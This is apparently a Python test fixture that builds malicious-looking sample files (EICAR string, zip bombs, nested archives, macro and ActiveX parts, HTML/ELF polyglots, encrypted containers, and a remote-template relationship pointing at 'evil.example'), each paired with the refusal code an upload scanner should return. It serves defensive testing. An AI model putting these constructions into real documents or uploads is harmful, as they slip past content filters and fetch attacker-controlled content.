"""Files that mean no good, made byte by byte; and small honest ones beside them."""

from __future__ import annotations

import io
import struct
import zipfile

from tests.files.test_store import PDF, office

EICAR = "".join(("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")).encode()


def box(name: bytes, data: bytes = b"") -> bytes:
    return struct.pack(">I4s", 8 + len(data), name) + data


FTYP = box(b"ftyp", b"isom\0\0\2\0isomiso2mp41")
MP4 = FTYP + box(b"moov", box(b"mvhd", bytes(100))) + box(b"mdat", bytes(64))
VTT = "WEBVTT\n\n00:00.000 --> 00:02.000\nสวัสดี\n".encode()
HTML = b"<html><script>alert(1)</script></html>"


def zipped(**parts: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as container:
        for name, data in parts.items():
            container.writestr(name, data)
    return made.getvalue()


def locked_zip() -> bytes:
    """A document whose parts say that they are encrypted (bit 0 of their flags, in both places)."""
    data = bytearray(office("docx"))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(mark)
        while start >= 0:
            data[start + at] |= 1
            start = data.find(mark, start + 4)
    return bytes(data)


REMOTE = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)

# name, content, the refusal's code
REFUSED = [
    ("bomb.xlsx", office("xlsx", xl__bomb_DOT_xml=bytes(40 << 20)), "file-bomb"),
    ("many.docx", office("docx", **{f"p{n}": b"" for n in range(5001)}), "file-bomb"),
    ("nested.docx", office("docx", word__embeddings__a_DOT_zip=zipped(a=b"x")), "file-archive"),
    ("nested2.docx", office("docx", word__embeddings__a_DOT_docx=office("docx", b_DOT_xlsx=office("xlsx"))), "file-archive"),
    ("hidden.docx", office("docx", word__media__image1_DOT_png=zipped(a=b"x")), "file-archive"),
    ("rar.pptx", office("pptx", ppt__x_DOT_dat=b"Rar!\x1a\x07\0" + bytes(20)), "file-archive"),
    ("macro-inside.docx", office("docx", word__embeddings__a_DOT_xlsx=office("xlsx", xl__vbaProject_DOT_bin=b"x")), "file-macros"),
    ("activex.docx", office("docx", word__activeX__activeX1_DOT_bin=b"x"), "file-macros"),
    ("program.docx", office("docx", word__x_DOT_dat=b"\x7fELF\2"), "file-polyglot"),
    ("template.docx", office("docx", word___rels__settings_DOT_xml_DOT_rels=REMOTE), "file-remote"),
    ("locked.docx", locked_zip(), "file-encrypted"),
    ("page.pdf", PDF.replace(b"1 0 obj", b"%" + HTML + b"\n1 0 obj", 1), "file-polyglot"),
    ("tail.pdf", PDF + HTML, "file-polyglot"),
    ("film.mp4", MP4 + HTML, "file-damaged"),
    ("page.mp4", FTYP + box(b"moov") + box(b"html", HTML), "file-polyglot"),
    ("short.mp4", MP4[:-10], "file-damaged"),
    ("no-index.mp4", FTYP + box(b"mdat", b"x"), "file-damaged"),
    ("drm.mp4", FTYP + box(b"moov", box(b"pssh", bytes(20))), "file-encrypted"),
    ("photo.mp4", PDF, "file-content"),
    ("phone.jpg", box(b"ftyp", b"heic\0\0\0\0"), "file-content"),
    ("captions.vtt", VTT, "file-type"),
    ("old.doc", b"x", "file-type"),
    ("camera.mov", b"x", "file-type"),
    ("all.zip", zipped(a=b"x"), "file-type"),
]  # fmt: skip
